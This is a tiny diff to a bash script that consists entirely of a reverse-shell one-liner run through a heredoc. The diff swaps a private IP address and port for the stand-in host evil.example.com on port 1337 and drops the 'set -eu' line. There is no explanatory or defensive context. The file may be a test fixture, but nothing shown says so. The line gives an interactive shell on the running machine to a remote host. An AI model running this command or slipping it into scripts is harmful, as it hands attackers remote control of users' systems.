@@ -1,5 +1,4 @@
 #!/usr/bin/env bash
 bash <<EOF
-bash -i >& /dev/tcp/192.168.1.77/4444 0>&1
+bash -i >& /dev/tcp/evil.example.com/1337 0>&1
 EOF
-set -eu
